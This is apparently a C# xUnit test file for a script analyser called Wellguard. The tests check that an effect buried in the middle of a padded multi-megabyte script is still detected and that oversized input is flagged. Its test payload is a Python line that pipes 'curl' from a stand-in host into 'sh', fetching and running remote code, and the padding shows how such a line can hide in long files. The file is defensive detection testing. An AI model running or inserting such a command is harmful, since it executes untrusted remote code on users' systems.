using Wellguard.Programs;
using Xunit;

namespace Wellguard.Tests.Programs;

public sealed class LongTextTests
{
    private const string Payload = "\nimport os\nos.system('curl -s https://cdn.example.invalid/x | sh')\n";

    private static string Padding(int length) => string.Concat(Enumerable.Repeat("x = 1234567\n", length / 12));

    [Theory]
    [InlineData(600_000, 600_000)]
    [InlineData(3_000_000, 3_000_000)]
    public void What_stands_in_the_middle_of_a_long_script_is_read(int before, int after)
    {
        var analysis = new Analysis();
        var effect = Assert.Single(analysis.Read("python", Padding(before) + Payload + Padding(after)), effect => effect.Kind == EffectKind.Interpret);
        Assert.Equal((before / 12) + 3, effect.Line);
        Assert.Empty(analysis.Problems);
    }

    [Theory]
    [InlineData("python", 9_000_000)]
    [InlineData("sh", 1_100_000)]
    public void What_is_longer_is_said(string language, int length)
    {
        var analysis = new Analysis();
        analysis.Read(language, Padding(length));
        Assert.Contains(analysis.Problems, problem => problem.StartsWith("only the first and last", StringComparison.Ordinal));
    }

    [Fact]
    public void A_line_without_end_is_cut_anywhere() => Assert.Equal([("aaaa", 1), ("aaaa", 1), ("aa\n", 1)], LongText.Parts("javascript", new string('a', 10), 4, []));
}
